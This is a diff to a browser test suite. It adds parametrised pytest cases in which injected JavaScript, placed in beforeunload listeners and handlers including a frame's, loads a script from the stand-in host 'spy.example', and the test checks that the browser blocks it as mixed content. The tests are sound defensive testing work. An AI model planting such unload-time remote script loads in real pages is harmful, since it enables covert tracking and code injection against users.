@@ -11,7 +11,7 @@ from harness.toolchain import paths
 from tests.browser.conftest import Judge
 from tests.browser.test_leaving import MOMENTS, ON_LEAVING
 from tests.browser.test_refusals import HOST, KEPT, LARGE, STRICT, promised, refusals
-from tests.browser.test_requests import HERE, TRACKS, requests
+from tests.browser.test_requests import FRAME, HERE, TRACKS, requests
 
 SPY: Final = "https://spy.example/e"
 PORT: Final = f"{HERE}:6000/e"
@@ -122,6 +122,29 @@ def test_each_refusal_is_told_once_at_each_moment(judged: Judge, moment: str) ->
     assert [words(item.place) for item in verdict.differences] == [
         "unclaimed request (unload)",
         f"request 1 (POST {HOST}/seen)",
+    ]
+
+
+INSECURE: Final = (
+    "document.head.append(Object.assign(document.createElement('script'), "
+    "{ src: 'http://spy.example/e' }))"
+)
+
+HEARS = {
+    "listener": f"addEventListener('beforeunload', () => {{ {INSECURE}; }}, {{ once: true }});",
+    "handler": f"window.onbeforeunload = () => {{ {INSECURE}; }};",
+    "handler of a frame": f"{FRAME}.onbeforeunload = () => {{ {INSECURE}; }};",
+}
+
+
+@pytest.mark.parametrize("name", HEARS)
+def test_browser_still_has_its_reason_when_the_page_is_about_to_be_left(
+    judged: Judge, name: str
+) -> None:
+    build = f"{HEARS[name]} module.exports = Reference;"
+    _, recording = judged(promised(), integration=build)
+    assert told(recording) == [
+        ("GET", "http://spy.example/e", "mixed content", "MixedContentBlocked")
     ]
 
 
